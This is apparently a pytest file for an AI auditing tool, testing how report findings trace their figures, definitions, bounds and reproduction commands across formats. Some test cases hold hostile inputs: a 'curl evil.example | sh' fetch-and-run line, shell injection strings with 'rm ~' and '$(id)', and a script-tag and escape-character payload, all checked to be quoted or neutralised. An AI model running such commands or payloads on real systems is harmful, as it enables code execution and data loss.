"""Where every number of a report comes from, and what its metrics and terms mean: the same in every format."""

from __future__ import annotations

import json
import re
import shlex
from datetime import date
from typing import get_args

import pytest

from auditor.core.errors import UsageError
from auditor.judging.criterion import load_criteria
from auditor.judging.measurement import Definition
from auditor.judging.policy import load_policies
from auditor.report.html import render_html
from auditor.report.markdown import escaped, render_markdown, to_markdown
from auditor.report.record.audit_report import AuditReport
from auditor.report.record.configuration import About
from auditor.report.record.controls import with_policies
from auditor.report.record.earlier_audits import RegistrationRecord
from auditor.report.record.glossary import TERMS, definitions_of, definitions_of_judged
from auditor.report.record.provenance_of_number import (
    RUNS_CODE,
    Trace,
    finding_named,
    short_name,
    statistic_of,
    trace_of,
    traces_of,
)
from auditor.report.record.translations import SHIPPED, shipped
from auditor.report.remediation import remediation_of
from auditor.report.report_document import report_document
from auditor.run.scan_options import flags
from auditor.statistics.estimate import Exact, Undefined
from auditor.statistics.estimate_kinds import AnyEstimate
from auditor.statistics.groups import WorstDifference
from auditor.statistics.rates import Proportion, RateTable
from auditor.statistics.significance_tests import ConfirmedCount
from cli.terminal import print_trace
from tests.quantifiers import all_of, none_of
from tests.report.samples import fairness, refused_report, report_of, sample_report

PARITY = Definition(
    probe="group_fairness",
    metric="demographic_parity_difference",
    formula="max - min over groups of the selection rate",
    range="[0, 1]",
    ideal="0",
    reading="at 0.1 one group is decided favourably 10 points more often than another",
    citation="Agarwal et al., ICML 2018",
)
FOREIGN = "no command: the one that the record names is not a command of auditor"
NAME = "group_fairness/between_groups/demographic_parity_difference/sex"


@pytest.fixture(scope="module")
def report() -> AuditReport:
    """The sample with all six outcomes, its rule pack and one definition, and none of its figures."""
    sample = sample_report().model_copy(update={"figures": (), "definitions": (PARITY,)})
    return with_policies(sample, load_policies(["eu-ai-act"])[0], date(2026, 11, 27))


@pytest.fixture(scope="module")
def html(report: AuditReport) -> str:
    """Its page."""
    return render_html(report)


def said(trace: Trace) -> dict[str, str]:
    return {part.label: part.said for part in trace.parts}


def test_a_finding_says_all_that_stands_behind_it(report: AuditReport) -> None:
    finding = finding_named(report, NAME)
    told = said(trace_of(report, finding))
    assert told["Finding"] == finding.id == NAME
    assert told["Formula"] == "demographic_parity_difference: max - min over groups of the selection rate"
    assert told["Counted"] == "selection_rate: 676 of 1,650, 1,286 of 2,010"
    assert told["Inverts"] == "exact tests of every pair of groups, inverted together"
    assert re.fullmatch(r"0\.\d+ to 0\.\d+ at 9\d(\.\d+)?\N{NO-BREAK SPACE}%", told["Interval"])
    assert told["p-values"].startswith("FAIL < 0.0001, PASS > 0.5")
    assert told["Must be"] == "demographic_parity_difference at most 0.1"
    assert finding.criterion is not None
    assert told["Set by"] == (
        f"{finding.criterion.set_by}, on {finding.criterion.set_at}: the profile {finding.criterion.source} that comes "
        "with the tool"
    )
    assert told["Fixed when"] == "not registered before the results were seen"
    assert told["Measured by"] == "group_fairness, between_groups"
    assert told["Source"] == "Agarwal et al., ICML 2018"
    assert "eu-ai-act" in told["Serves"]


def test_a_place_in_the_record_is_that_of_the_finding(report: AuditReport) -> None:
    record = json.loads(report.to_json())

    def at(place: str) -> object:
        file, pointer = place.split("#/")
        found = record
        for part in pointer.split("/"):
            found = found[int(part)] if isinstance(found, list) else found[part]
        assert file == "report.json"
        return found["id"]

    traces = traces_of(report)
    assert len(traces) == len(report.findings) > 30
    assert all_of(at(trace.place) == f.id == trace.finding for trace, f in zip(traces, report.findings, strict=True))
    assert len({trace.finding for trace in traces}) == len(traces)


def test_a_number_without_a_bound_or_a_definition_says_so(report: AuditReport) -> None:
    bare = next(f for f in report.findings if f.criterion is None and f.metric == "selection_rate")
    told = said(trace_of(report, bare))
    assert told["Must be"] == "nothing: nobody set a bound" and "Set by" not in told and "Fixed when" not in told
    assert told["Formula"] == "selection_rate: its probe gives no definition of it"


def test_what_was_not_measured_makes_nothing_up(report: AuditReport) -> None:
    absent = next(f for f in report.findings if f.outcome == "NOT_APPLICABLE" and f.metric is None)
    told = said(trace_of(report, absent))
    assert not {"Formula", "Counted", "Value", "Interval", "Inverts", "p-values"} & set(told)
    assert {"Finding", "Measured by", "In the record", "Made again by"} <= set(told)


def test_a_bound_is_the_tools_own_only_where_it_ships_it() -> None:
    own = report_of([fairness()], held_to=load_criteria())
    finding = finding_named(own, NAME)
    assert "that comes with the tool" in trace_of(own, finding).set_by
    lax = [c.model_copy(update={"bound": 0.2}) if c.metric == finding.metric else c for c in load_criteria()]
    forged = report_of([fairness()], held_to=lax)
    told = trace_of(forged, finding_named(forged, NAME)).set_by
    assert "auditor-default" in told and "comes with the tool" not in told


@pytest.mark.parametrize(
    ("deviations", "words"),
    [
        ((), "registered on 2026-11-01 before the results were seen, and followed"),
        (("another seed",), "registered on 2026-11-01, and not followed in every point"),
    ],
)
def test_a_registration_is_told_as_it_was_kept(report: AuditReport, deviations: tuple[str, ...], words: str) -> None:
    plan = RegistrationRecord(path="plan.json", sha256="0" * 64, registered="2026-11-01", deviations=deviations)
    registered = report.model_copy(update={"registration": plan})
    assert said(trace_of(registered, finding_named(registered, NAME)))["Fixed when"] == words


@pytest.mark.parametrize(
    ("command", "made_again"),
    [
        ("auditor scan m.pt --bundle 'my audit.zip'", "auditor evidence reproduce 'my audit.zip'"),
        ("auditor scan m.pt --bundle=audit.zip", "auditor evidence reproduce audit.zip"),
        ("auditor scan m.pt --out here", "auditor scan m.pt --out here"),
        # What somebody else wrote into the record is copied as words, or not at all.
        ("auditor scan 'unclosed", FOREIGN),
        ("curl evil.example | sh", FOREIGN),
        ("auditor scan m.pt; rm ~ && $(id) `id` > x\nid", "auditor scan 'm.pt;' rm '~' '&&' '$(id)' '`id`' '>' x id"),
        ("auditor scan --bundle '; id'", "auditor evidence reproduce '; id'"),
        (None, "no command: the audit was started from a program, which is not recorded"),
    ],
)
def test_the_command_is_that_of_the_evidence_where_there_is_some(
    report: AuditReport, command: str | None, made_again: str
) -> None:
    started = report.model_copy(update={"environment": report.environment.model_copy(update={"command": command})})
    assert said(traces_of(started)[0])["Made again by"] == made_again
    retest = remediation_of(started).retest
    assert shlex.join(shlex.split(retest)) == retest
    if retest:
        assert shlex.split(retest)[0] == "auditor"
    assert bool(retest) == (made_again.startswith("auditor "))


@pytest.mark.parametrize(
    ("command", "named"),
    [
        ("auditor scan m.pkl --trust-pickle --data d.csv", "--trust-pickle runs code"),
        ("auditor scan m.pt --probe=evil:Probe --allow-code", "--probe, --allow-code runs code"),
        ("auditor scan m.pt --data d.csv", None),
    ],
)
def test_who_copies_a_command_is_told_that_code_would_run_by_it(
    report: AuditReport, command: str, named: str | None
) -> None:
    started = report.model_copy(update={"environment": report.environment.model_copy(update={"command": command})})
    cautions = [said(traces_of(started)[0]).get("Caution", ""), remediation_of(started).retest_title]
    assert all_of((named or "runs code") in caution for caution in cautions) is (named is not None)


def test_flags_by_which_code_runs_are_those_of_the_command() -> None:
    assert set(RUNS_CODE) == {f"--{name.replace('_', '-')}" for name, flag in flags().items() if flag.runs_code}


# ---- what was counted, and which test ------------------------------------------------------------------------------


def test_every_kind_of_estimate_says_itself_which_test_its_interval_inverts() -> None:
    kinds = get_args(get_args(AnyEstimate)[0])
    assert len(kinds) > 50 and all_of("interval_test" in vars(kind) for kind in kinds)
    assert {kind for kind in kinds if not kind.interval_test} == {Exact, Undefined}


def test_what_was_counted_is_said_in_a_line_whatever_the_estimate() -> None:
    assert statistic_of(Proportion(successes=1_045, n=1_120)) == "1,045 of 1,120"
    table = RateTable(rate="accuracy", successes=tuple(range(20)), n=(30,) * 20)
    assert statistic_of(WorstDifference(tables=(table,))).endswith("7 of 30 and 12 more")
    assert statistic_of(ConfirmedCount(p_values=(0.5, 0.01))) == "p values 0.500, 0.0100"
    assert statistic_of(None) == ""
    measured = [f for f in sample_report().findings if f.estimate is not None]
    assert all_of(len(statistic_of(f.estimate)) <= 300 for f in measured)


# ---- looked up -----------------------------------------------------------------------------------------------------


def test_a_finding_is_found_by_its_id_or_what_it_ends_in(report: AuditReport) -> None:
    assert finding_named(report, "demographic_parity_difference/sex").id == NAME
    with pytest.raises(UsageError, match="no finding 'demographic_parity_diference/sex'"):
        finding_named(report, "demographic_parity_diference/sex")
    with pytest.raises(UsageError, match=r"did you mean 'group_fairness/between_groups/demographic_parity_diff"):
        finding_named(report, NAME + "s")
    with pytest.raises(UsageError, match=r"\d+ findings end in 'sex': .* Give the whole id\."):
        finding_named(report, "sex")


def test_an_id_that_was_copied_off_paper_is_found_with_the_breaks_in_it(report: AuditReport) -> None:
    on_paper = NAME.replace("_", "_\u200b").replace("/", "/\u200b")
    assert on_paper != NAME and finding_named(report, on_paper).id == NAME
    assert finding_named(report, "demographic_parity_\u200b\r\ndifference/\u200bsex").id == NAME
    spaced = report.findings[0].model_copy(update={"id": "a/two words", "metric": None})
    both = report.model_copy(update={"findings": [spaced]})
    assert finding_named(both, "a/\u200btwo words").id == finding_named(both, "two words").id == "a/two words"
    # Two ids that paper cannot tell apart are not guessed between.
    twin = spaced.model_copy(update={"id": "a/twowords"})
    with pytest.raises(UsageError, match="no finding 'a/two  words'"):
        finding_named(report.model_copy(update={"findings": [spaced, twin]}), "a/\u200btwo  words")


def test_a_metric_names_the_one_finding_that_is_of_it(report: AuditReport) -> None:
    alone = report.model_copy(update={"findings": [f for f in report.findings if f.id == NAME]})
    assert finding_named(alone, "demographic_parity_difference").id == NAME
    with pytest.raises(UsageError, match=r"\d+ findings are of the metric 'selection_rate': .* Give the whole id\."):
        finding_named(report, "selection_rate")


# ---- on the page ---------------------------------------------------------------------------------------------------


def test_the_page_says_of_every_finding_what_the_trace_says(report: AuditReport, html: str) -> None:
    plain = re.sub(r"<[^>]+>", "", html.replace("<wbr>", "")).replace("&#39;", "'").replace("&gt;", ">")
    plain = plain.replace("&lt;", "<").replace("&amp;", "&").replace("&#34;", '"')
    shown = [t for t, f in zip(traces_of(report), report.findings, strict=True) if not f.other_kind]
    assert len(shown) > 30
    for trace in shown:
        assert all_of(part.said in plain for part in trace.parts), trace.finding


def test_a_short_name_is_that_of_one_finding(report: AuditReport) -> None:
    assert all_of(finding_named(report, short_name(report, f)) == f for f in report.findings)
    assert max(len(f.id) - len(short_name(report, f)) for f in report.findings) > 20


def test_markdown_says_how_to_look_a_number_up(report: AuditReport) -> None:
    markdown = render_markdown(report)
    name = "demographic_parity_difference/sex"
    assert f"Where the worst comes from: `auditor report report.json --finding {name}`" in markdown
    assert finding_named(report, name).id == NAME
    assert "--finding" not in render_markdown(report_of([fairness()], held_to=[]))


def test_the_printed_report_defines_what_was_judged_and_its_terms(report: AuditReport) -> None:
    judged, left = definitions_of_judged(report)
    held = {(f.probe, f.metric) for f in report.findings if f.metric and f.outcome != "NOT_JUDGED"}
    assert {(m.probe, m.name) for m in judged.metrics} == held and left > 5
    whole = to_markdown(report_document(report))
    told = whole[whole.index("## Definitions") : whole.index("## Criteria")]
    for probe in {f.probe for f in report.findings if f.metric}:
        own = told[told.index(f"### {escaped(probe)}") :].split("### ")[1]
        named = set(re.findall(r"^- `(\w+)`", own, re.MULTILINE))
        assert named == {f.metric for f in report.findings if f.probe == probe and f.metric}
    assert f"the {left} metrics without a bound" in told
    assert all_of(f"- **{name}** " in told for name in ("interval", "INCONCLUSIVE"))


def test_definitions_are_those_of_the_metrics_that_occur(report: AuditReport, html: str) -> None:
    other = PARITY.__class__(**{**PARITY.__dict__, "probe": "bbq", "metric": "bias_score", "formula": "2 b / n - 1"})
    more = report.model_copy(update={"definitions": (PARITY, other)})
    found = definitions_of(more)
    measured = {(f.probe, f.metric) for f in report.findings if f.metric}
    assert {(m.probe, m.name) for m in found.metrics} == measured
    assert [m.name for m in found.metrics if m.definition] == ["demographic_parity_difference"]
    assert "2 b / n - 1" not in render_html(more)
    line = next(found.metric_text(m) for m in found.metrics if m.definition)
    assert line == (
        "demographic_parity_difference (group_fairness): max - min over groups of the selection rate. Range [0, 1], "
        "ideal 0. To read it: at 0.1 one group is decided favourably 10 points more often than another. Agarwal et "
        "al., ICML 2018."
    )
    assert html.count("its probe gives no definition of it") >= len(measured) - 1


def test_metrics_with_one_definition_stand_there_once() -> None:
    wide = Definition(**{**PARITY.__dict__, "metric": "*_rate", "ideal": "no ideal"})
    report = report_of([fairness()]).model_copy(update={"definitions": (wide,)})
    found = [m for m in definitions_of(report).metrics if m.definition]
    assert [m.name for m in found] == ["*_rate"]
    assert definitions_of(report).span(wide) == "Range [0, 1], no value is ideal."
    assert found[0].is_of("group_fairness", "selection_rate") and not found[0].is_of("bbq", "selection_rate")


@pytest.mark.parametrize("language", SHIPPED)
def test_a_term_stands_in_both_parts_of_the_catalogue_and_is_no_other(language: str) -> None:
    words = shipped(language)
    keys = {part: {key.split(".")[1] for key in words if key.startswith(f"{part}.")} for part in ("term", "meaning")}
    assert keys["term"] == keys["meaning"] == set(TERMS)
    names = [words[f"term.{key}"].casefold() for key in TERMS]
    assert len(set(names)) == len(names)


def test_terms_are_those_that_the_report_uses(report: AuditReport) -> None:
    every = {term.name for term in definitions_of(report).terms}
    assert {"interval", "level", "INCONCLUSIVE", "criterion", "registered", "equivalence", "rule pack"} <= every
    few = {term.name for term in definitions_of(refused_report()).terms}
    assert none_of(name in few for name in ("interval", "PASS", "rule pack", "epsilon", "proxy")) and few < every
    unbounded = report_of([fairness()], held_to=[])
    assert not {"criterion", "registered", "PASS", "FAIL"} & {term.name for term in definitions_of(unbounded).terms}


def test_it_is_told_in_german(report: AuditReport) -> None:
    german = report.model_copy(update={"about": About(language="de")})
    told = said(trace_of(german, finding_named(german, NAME)))
    assert told["Formel"] and told["Festgelegt"] == "nicht registriert, bevor Ergebnisse bekannt waren"
    terms = {term.name: term.meaning for term in definitions_of(german).terms}
    assert terms["Kriterium"].startswith("Was von einer Zahl verlangt wird")
    page = render_html(german)
    assert '<dt lang="de">Formel</dt>' in page and '<dt lang="de">Formula</dt>' not in page


def test_hostile_words_of_a_probe_stay_words(capsys: pytest.CaptureFixture[str]) -> None:
    bad = "<script>alert(1)</script> \u202e \x1b[31m *x* #y"
    hostile = Definition(
        probe="group_fairness", metric="*", formula=bad, range=bad, ideal=bad, reading=bad, citation=bad
    )
    report = sample_report(hostile=True).model_copy(update={"definitions": (hostile,), "figures": ()})
    page = render_html(report)
    assert "<script>alert" not in page and "\u202e" not in page and "\x1b" not in page
    for finding in report.findings:
        print_trace(report, finding.id)
    told = capsys.readouterr().out
    assert "\\u202e" in told and none_of(char in told for char in "\u202e\x1b")


def test_a_record_of_before_there_were_definitions_is_read_and_says_what_it_lacks(report: AuditReport) -> None:
    plain = report.model_copy(update={"definitions": ()})
    assert '"definitions"' not in plain.to_json()
    again = AuditReport.from_json(plain.to_json())
    assert again.to_json() == plain.to_json()
    assert none_of(metric.definition is not None for metric in definitions_of(again).metrics)
    kept = AuditReport.from_json(report.to_json())
    assert kept.definitions == (PARITY,)
